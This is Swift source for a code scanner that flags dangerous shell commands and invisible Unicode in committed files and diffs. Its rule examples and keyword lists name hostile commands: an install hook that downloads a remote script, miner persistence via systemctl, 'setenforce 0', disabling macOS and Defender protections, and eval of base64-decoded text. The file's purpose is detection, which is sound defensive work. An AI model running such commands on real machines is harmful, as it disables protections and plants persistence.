/// Dangerous code in files: shell code extracted by format (ScriptExtractor) goes through the shell
/// analyzer's rule packs; invisible Unicode is reported in any text. Reports findings with rule id,
/// severity, reason and line, subject to the same allowlists as secrets (paths, fingerprints,
/// `wow-guard:allow`).
public struct ScriptDetector: Sendable {
    public let allowlist: Allowlist
    public let context: ShellContext

    public init(allowlist: Allowlist, context: ShellContext = ShellContext()) {
        self.allowlist = allowlist
        self.context = context
    }

    /// Rules whose subject is the developer's own machine: inside a container build they are the
    /// normal way to slim an image (`rm -rf /var/lib/apt/lists/*`), so Dockerfiles skip them.
    static let hostOnlyPrefixes = ["fs.", "perm.", "system.", "git.", "self."]

    static let parseFailures: Set<String> = [ShellRules.unparseable.id, ShellRules.tooDeep.id, ShellRules.tooLarge.id]

    /// Committed code is reported when it is clearly dangerous: every `deny`, and the `ask`
    /// verdicts of categories that are about attacks rather than uncertainty. (`rm -rf "$tmp"`,
    /// `"$bin" --flag` and `git reset --hard` in a build script are what scripts are for.)
    static let askCategoriesForScripts = ["rce.", "revshell.", "exfil.", "cred.", "ssrf.", "self.", "script.", "persist.", "supply."]

    /// Verdicts about uncertainty (an unknown path that might be a credential file) are for the
    /// agent hook, which can ask; in committed code they would only be noise.
    static let uncertainRules: Set<String> = [CredentialRules.maybe.id, ShellRules.dynamicCommand.id, ShellRules.dynamicCode.id, "fs.rm-unknown"]

    /// Persistence a committed script installs (crontabs, start-up files, autostart and systemd
    /// user units, at jobs): reported in scans and pre-commit, as the agent hook asks about it.
    static let persistenceRules: Set<String> = [FilesystemRules.writeShellRC.id, FilesystemRules.writeAutostart.id, FilesystemRules.writeAuthorizedKeys.id,
                                                SystemRules.crontabInstall.id, SystemRules.scheduledJob.id]

    static func reportable(_ v: Verdict) -> Bool {
        !uncertainRules.contains(v.ruleID)
            && (v.decision == .deny || persistenceRules.contains(v.ruleID) || askCategoriesForScripts.contains { v.ruleID.hasPrefix($0) })
    }

    /// Findings in a whole file.
    public func scan(path: String, text rawText: String) -> [Finding] {
        if allowlist.allowsPath(path) { return [] }
        let text = TextSafety.boundingCombiningRuns(rawText)
        // Lines are split only when something needs them (most written files hold neither a
        // suspicious character nor a script).
        let suspects = text.utf8.withContiguousStorageIfAvailable { InvisibleUnicode.mayContainSuspects(UnsafeRawBufferPointer($0)) } ?? true
        var lines: [Substring]? = suspects ? TextLines.split(text) : nil
        var out = lines.map { unicodeFindings(path: path, lines: $0[...], firstLine: 1) } ?? []
        for snippet in ScriptExtractor.snippets(path: path, text: text) {
            out += findings(for: snippet, path: path)
        }
        if out.isEmpty { return [] }
        if lines == nil { lines = TextLines.split(text) }
        return filterAllowed(out, lines: lines ?? [])
    }

    /// Findings on the added lines of a changed file. The whole new text (when available) gives
    /// the context to parse multi-line constructs; only findings that start on an added line count.
    public func detect(_ file: ChangedFile) -> [Finding] {
        if allowlist.allowsPath(file.path) { return [] }
        var out: [Finding] = []
        // Invisible Unicode: scalar-level work on the added lines that are not plain ASCII.
        for h in file.hunks where h.lines.contains(where: { !$0.utf8.allSatisfy { $0 < 0x80 } }) {
            out += unicodeFindings(path: file.path, lines: h.lines.map { Substring($0) }[...], firstLine: h.startLine)
        }
        // Executable code, in script formats only (most changed files are not: they cost nothing here).
        let newText = file.newText.map(TextSafety.boundingCombiningRuns)
        if let newText {
            let snippets = ScriptExtractor.snippets(path: file.path, text: newText)
            if !snippets.isEmpty {
                let added = Set(file.hunks.flatMap { h in (0..<h.lines.count).map { h.startLine + $0 } })
                for snippet in snippets {
                    let span = snippet.line..<(snippet.line + snippet.text.utf8.reduce(1) { $1 == 0x0A ? $0 + 1 : $0 })
                    guard span.contains(where: added.contains) else { continue }
                    out += findings(for: snippet, path: file.path)
                }
            }
        } else {
            for h in file.hunks where ScriptExtractor.kind(path: file.path, firstLine: h.lines.first.map { Substring($0) }) != nil {
                let text = TextSafety.boundingCombiningRuns(h.lines.joined(separator: "\n"))
                for snippet in ScriptExtractor.snippets(path: file.path, text: text) {
                    var s = snippet
                    s.line += h.startLine - 1
                    out += findings(for: s, path: file.path)
                }
            }
        }
        guard !out.isEmpty else { return [] }
        if let newText { return filterAllowed(out, lines: TextLines.split(newText)) }
        // Without the whole text, the added lines are the ones findings can point at.
        var byLine: [Int: Substring] = [:]
        for h in file.hunks { for (k, l) in h.lines.enumerated() { byLine[h.startLine + k] = Substring(l) } }
        return filterAllowed(out, lines: (0..<(byLine.keys.max() ?? 0)).map { byLine[$0 + 1] ?? "" })
    }

    func unicodeFindings(path: String, lines: ArraySlice<Substring>, firstLine: Int) -> [Finding] {
        InvisibleUnicode.scan(Array(lines), firstLine: firstLine, path: path).map { hit in
            var f = Finding(ruleID: hit.ruleID, description: hit.reason, severity: InvisibleUnicode.rules.first { $0.id == hit.ruleID }?.severity ?? .high,
                            path: path, line: hit.line, column: hit.column, endLine: hit.line, endColumn: hit.column,
                            secret: "U+\(InvisibleUnicode.hex(hit.scalar.value))")
            f.isSecret = false
            return f
        }
    }

    func findings(for snippet: ScriptSnippet, path: String) -> [Finding] {
        var verdicts = ShellAnalyzer.analyze(snippet.text, context: context).filter {
            !ScriptDetector.parseFailures.contains($0.ruleID) && ScriptDetector.reportable($0)
        }
        if snippet.origin == .dockerfile {
            verdicts = verdicts.filter { v in !ScriptDetector.hostOnlyPrefixes.contains { v.ruleID.hasPrefix($0) } || v.ruleID == FilesystemRules.rule("rm", .root)?.id }
        }
        verdicts += ScriptRules.verdicts(snippet)
        if ScriptRules.isPinnedDownload(snippet.text) {
            verdicts = verdicts.filter { !$0.ruleID.hasPrefix("rce.") }
        }
        var seen = Set<String>()
        var out: [Finding] = []
        for v in verdicts where seen.insert(v.ruleID).inserted {
            let strict = snippet.origin == .installHook
            let severity: Severity = v.decision == .deny ? (v.ruleID.hasPrefix("rce.") || v.ruleID.hasPrefix("revshell.") ? .critical : .high)
                                                         : (strict ? .high : .medium)
            // Point at the line of the block that holds the dangerous command, not the block's start.
            var at = ScriptLineLocator.locate(v.subject, in: snippet.text)
            at.column += snippet.indent
            let line = snippet.line + at.lineOffset
            var f = Finding(ruleID: v.ruleID, description: "\(snippet.origin.rawValue): \(v.reason)", severity: severity, path: path,
                            line: line, column: at.column, endLine: line, endColumn: max(at.column, at.column + at.text.count - 1),
                            secret: at.text)
            f.isSecret = false
            out.append(f)
        }
        return out
    }

    func filterAllowed(_ findings: [Finding], lines: [Substring]) -> [Finding] {
        var markerOnLine: [Int: Bool] = [:]
        return findings.filter { f in
            if allowlist.fingerprints.contains(f.fingerprint) { return false }
            guard f.line >= 1 && f.line <= lines.count else { return true }
            if let known = markerOnLine[f.line] { return !known }
            let has = lines[f.line - 1].utf8.count >= InlineAllow.marker.utf8.count && lines[f.line - 1].contains(InlineAllow.marker)
            markerOnLine[f.line] = has
            return !has
        }
    }
}

/// Checks specific to code that runs unattended (scripts, CI, install hooks), on top of the
/// command rule packs.
enum ScriptRules {
    // Examples are files as `path: text`.
    static let installHookNetwork = GuardRule("script.install-hook-network", .ask,
        "an install hook downloads or runs inline code: it runs on every install of the package and its dependents", kind: .script,
        examples: ["package.json: {\"scripts\": {\"postinstall\": \"curl -s https://x.example/a.sh -o a.sh\"}}"],
        counterExamples: ["package.json: {\"scripts\": {\"postinstall\": \"node build.js\"}}", "package.json: {\"scripts\": {\"test\": \"curl -s localhost:3000\"}}"])
    static let persistence = GuardRule("script.persistence", .deny,
        "installs itself to run again later (services, launch agents, start-up scripts)", kind: .script,
        examples: ["install.sh: #!/bin/sh\nsystemctl enable --now miner.service", "setup.sh: cp agent.plist ~/Library/LaunchAgents/ && launchctl load ~/Library/LaunchAgents/agent.plist"],
        counterExamples: ["install.sh: #!/bin/sh\nsystemctl status docker", "docs/setup.md: run `systemctl enable docker` yourself"])
    static let disableSecurity = GuardRule("script.disable-security", .deny, "switches a security control off", kind: .script,
        examples: ["setup.sh: #!/bin/sh\nsetenforce 0"], counterExamples: ["setup.sh: #!/bin/sh\ngetenforce"])
    static let obfuscatedEval = GuardRule("script.obfuscated-eval", .deny, "evaluates decoded or obfuscated text", kind: .script,
        examples: ["run.sh: #!/bin/sh\neval \"$(echo ZWNobyBoaQ== | base64 -d)\""], counterExamples: ["run.sh: #!/bin/sh\necho ZWNobyBoaQ== | base64 -d > out.txt"])
    static let all = [installHookNetwork, persistence, disableSecurity, obfuscatedEval]

    static func verdicts(_ snippet: ScriptSnippet) -> [Verdict] {
        var out: [Verdict] = []
        let code = snippet.text.split(separator: "\n").map { line -> Substring in
            // Drop comments (a `#` after whitespace or at the start).
            var prev: Character = " "
            for i in line.indices {
                if line[i] == "#" && (prev == " " || prev == "\t") { return line[..<i] }
                prev = line[i]
            }
            return line
        }.joined(separator: "\n")
        let raw = code.lowercased()
        // Quoted text is data (`echo "never use --no-verify"`); match the code around it.
        let lower = ScriptRules.removingQuotedText(raw)
        let bytes = Array(lower.utf8)
        func has(_ needles: [String]) -> String? { needles.first { ByteSearch.contains(bytes, $0) } }
        if snippet.origin == .installHook, let tool = has(["curl ", "wget ", "invoke-webrequest", "iwr ", "node -e", "python -c", "python3 -c"]) {
            out.append(ScriptRules.installHookNetwork.verdict(code, reason: "an install hook runs `\(tool.trimmingWhitespace())`: it runs on every `npm install` of this package and its dependents"))
        }
        // Shell start-up files, authorized_keys, crontabs, firewalls, git hooks and --no-verify are
        // covered by the command rule packs; these are the remaining ways to persist or disarm.
        if let what = has(["systemctl enable", "systemctl --user enable", "systemctl --now enable", "launchctl load", "launchctl bootstrap", "/etc/rc.local", "/etc/profile.d/",
                           "/etc/systemd/system/", "/lib/systemd/system/", "update-rc.d"]) {
            out.append(ScriptRules.persistence.verdict(code, reason: "installs itself to run again later (\(what.trimmingWhitespace()))"))
        }
        if let what = has(["setenforce 0", "spctl --master-disable", "csrutil disable", "set-mppreference -disablerealtimemonitoring",
                           "systemctl stop apparmor", "systemctl disable apparmor", "aa-teardown", "sysctl -w kernel.randomize_va_space=0"]) {
            out.append(ScriptRules.disableSecurity.verdict(code, reason: "switches a security control off (\(what))"))
        }
        let rawBytes = Array(raw.utf8)
        if ByteSearch.contains(bytes, "eval"),
           let what = ["base64 -d", "base64 --decode", "xxd -r", "| rev", "openssl enc -d", "\\x"].first(where: { ByteSearch.contains(rawBytes, $0) }) {
            out.append(ScriptRules.obfuscatedEval.verdict(code, reason: "evaluates decoded or obfuscated text (\(what))"))
        }
        return out
    }

    /// `text` with the contents of '…' and "…" strings removed (quotes kept).
    static func removingQuotedText(_ text: String) -> String {
        var out = ""
        var quote: Character?
        var prev: Character = " "
        for c in text {
            if let q = quote {
                if c == q && (q == "'" || prev != "\\") { quote = nil; out.append(c) }
            } else {
                if c == "'" || c == "\"" { quote = c }
                out.append(c)
            }
            prev = c
        }
        return out
    }

    /// A download pinned to an exact revision (a 40-hex commit or a sha256 digest) and nothing else.
    static func isPinnedDownload(_ text: String) -> Bool {
        let urls = text.split(whereSeparator: { $0 == " " || $0 == "\"" || $0 == "'" || $0 == "\n" || $0 == "(" || $0 == ")" })
            .filter { $0.hasPrefix("http://") || $0.hasPrefix("https://") }
        guard !urls.isEmpty else { return false }
        return urls.allSatisfy { url in
            url.hasPrefix("https://") && (url.split(separator: "/").contains { seg in seg.count == 40 && seg.allSatisfy(\.isHexDigit) }
                || url.contains("sha256:") || url.contains("@sha256"))
        }
    }
}

extension ScriptDetector: ChangeDetector {}

/// Substring search on UTF-8 bytes (String.contains is Unicode-aware and far slower).
enum ByteSearch {
    static func contains(_ haystack: [UInt8], _ needle: String) -> Bool {
        let n = Array(needle.utf8)
        guard let first = n.first, haystack.count >= n.count else { return n.isEmpty }
        var i = 0
        let last = haystack.count - n.count
        while i <= last {
            if haystack[i] == first {
                var j = 1
                while j < n.count && haystack[i + j] == n[j] { j += 1 }
                if j == n.count { return true }
            }
            i += 1
        }
        return false
    }
}

/// Which line of a multi-line snippet (a CI step's `run: |` block, a Dockerfile RUN with
/// continuations, a recipe) a verdict is about: the first line holding the verdict's subject, or
/// else the line sharing most of its words.
enum ScriptLineLocator {
    struct Location: Equatable {
        var lineOffset: Int
        var column: Int
        var text: String
    }

    /// Character offset of the first occurrence of `needle` in `line`.
    static func characterOffset(of needle: Substring, in line: Substring) -> Int? {
        let h = Array(line), n = Array(needle)
        guard !n.isEmpty, h.count >= n.count else { return nil }
        for i in 0...(h.count - n.count) where h[i] == n[0] && Array(h[i..<(i + n.count)]) == n { return i }
        return nil
    }

    static func locate(_ subject: String, in text: String) -> Location {
        let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
        func at(_ k: Int, _ needle: Substring?) -> Location {
            let line = lines[k]
            let lead = line.prefix { $0 == " " || $0 == "\t" }.count
            var column = lead + 1
            if let needle, let c = characterOffset(of: needle, in: line) { column = c + 1 }
            let shown = line.dropFirst(lead)
            return Location(lineOffset: k, column: column, text: String(shown.hasSuffix("\\") ? shown.dropLast() : shown).trimmingWhitespace())
        }
        guard lines.count > 1 else { return Location(lineOffset: 0, column: 1, text: text) }
        let first = subject.split(separator: "\n").first.map { $0.trimmingWhitespace() } ?? ""
        if !first.isEmpty, let k = lines.firstIndex(where: { characterOffset(of: Substring(first), in: $0) != nil }) { return at(k, Substring(first)) }
        let words = Set(subject.split(whereSeparator: { " \t\n|;&()<>'\"".contains($0) }).filter { $0.count >= 3 })
        var best = -1, bestScore = 0
        for (k, line) in lines.enumerated() {
            let score = line.split(whereSeparator: { " \t|;&()<>'\"".contains($0) }).filter { words.contains($0) }.count
            if score > bestScore { best = k; bestScore = score }
        }
        if best >= 0 { return at(best, nil) }
        let k = lines.firstIndex { !$0.trimmingWhitespace().isEmpty } ?? 0
        return at(k, nil)
    }
}
